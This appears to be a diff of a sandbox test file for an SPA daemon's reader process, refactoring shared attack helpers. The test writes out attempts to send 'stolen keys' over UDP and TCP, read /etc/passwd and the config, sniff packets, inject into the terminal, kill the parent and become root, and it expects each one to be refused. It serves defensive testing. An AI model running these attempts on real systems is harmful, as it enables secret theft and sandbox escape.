@@ -23,9 +23,24 @@ from compromised_reader import CompromisedServer, run_in_reader
 from netns_lab import Lab, wait_for_line
 from test_spa import SERVICE_PORT, need_nft, proc_status, timed_knock
 
+# Attacks both lists below make.
+COMMON = r'''
+def udp_out():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    return s.sendto(b"stolen keys", (client, 9999))
+def close_then_socket():            # a descriptor freed: still none may be made (limit 0)
+    os.close(0)
+    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def fork():
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    return pid
+'''
+
 # Every OS-level attack of issue 12, as code run inside the reader.  Each `attempt` must
 # end "refused ERRNO"; "DONE ..." is an attack that got through.
-ATTACKS = r'''
+ATTACKS = COMMON + r'''
 SOL_SOCKET, SO_ATTACH_FILTER, SO_DETACH_FILTER, SO_LOCK_FILTER = 1, 26, 27, 44
 SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
 libc = ctypes.CDLL(None, use_errno=True)
@@ -78,9 +93,6 @@ report("sniff", "error: no marker" if frames is None else "DONE saw %d frames th
        "should drop" % len(others) if others else "refused: only what the filter passes")
 
 # 3. New sockets of every kind, connecting out: the keys never leave this way.
-def udp_out():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    return s.sendto(b"stolen keys", (client, 9999))
 def tcp_out():
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     return s.connect((client, 9999))            # the test listens there
@@ -100,19 +112,11 @@ attempt("read_passwd", lambda: open("/etc/passwd").read())
 attempt("create_file", lambda: open("/tmp/spa-reader-attack-%d" % os.getpid(), "w"))
 attempt("pipe", os.pipe)
 attempt("dup", os.dup, pipe)
-def close_then_socket():
-    os.close(0)
-    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 attempt("close_then_socket", close_then_socket)
 attempt("write_stdout", os.write, 1, b"forged log line\n")
 attempt("write_stderr", os.write, 2, b"forged log line\n")
 
 # 5. Processes: fork, signal or trace the root parent, become root, leave the sandbox.
-def fork():
-    pid = os.fork()
-    if pid == 0:
-        os._exit(0)
-    return pid
 attempt("fork", fork)
 attempt("kill_parent", os.kill, os.getppid(), signal.SIGKILL)
 attempt("setuid_root", os.setuid, 0)
@@ -232,7 +236,7 @@ def test_the_reader_leaves_the_terminal(tmp_path):
 
 # Without seccomp (an architecture spa.py has no table for), what still holds: the user,
 # the rlimits (no new descriptor: EMFILE; no process: EAGAIN), the locked filter, no terminal.
-LAYERS = r'''
+LAYERS = COMMON + r'''
 SOL_SOCKET, SO_ATTACH_FILTER, SO_DETACH_FILTER = 1, 26, 27
 seen = set()
 for fd in range(64):
@@ -244,24 +248,13 @@ for fd in range(64):
 report("tiocsti", ",".join(sorted(seen)) if any("DONE" in x for x in seen) else "refused")
 attempt("open_dev_tty", os.open, "/dev/tty", os.O_RDWR)
 attempt("detach_filter", sockets[0].setsockopt, SOL_SOCKET, SO_DETACH_FILTER, 0)
-def udp_out():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    return s.sendto(b"stolen keys", (client, 9999))
 attempt("udp_socket", udp_out)
 attempt("unix_socket", socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)
 attempt("read_passwd", lambda: open("/etc/passwd").read())
 attempt("read_config", lambda: open(config).read())
 attempt("pipe", os.pipe)
 attempt("dup", os.dup, pipe)
-def close_then_socket():            # a descriptor freed: still none may be made (limit 0)
-    os.close(0)
-    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 attempt("close_then_socket", close_then_socket)
-def fork():
-    pid = os.fork()
-    if pid == 0:
-        os._exit(0)
-    return pid
 attempt("fork", fork)
 attempt("kill_parent", os.kill, os.getppid(), signal.SIGKILL)
 attempt("setuid_root", os.setuid, 0)
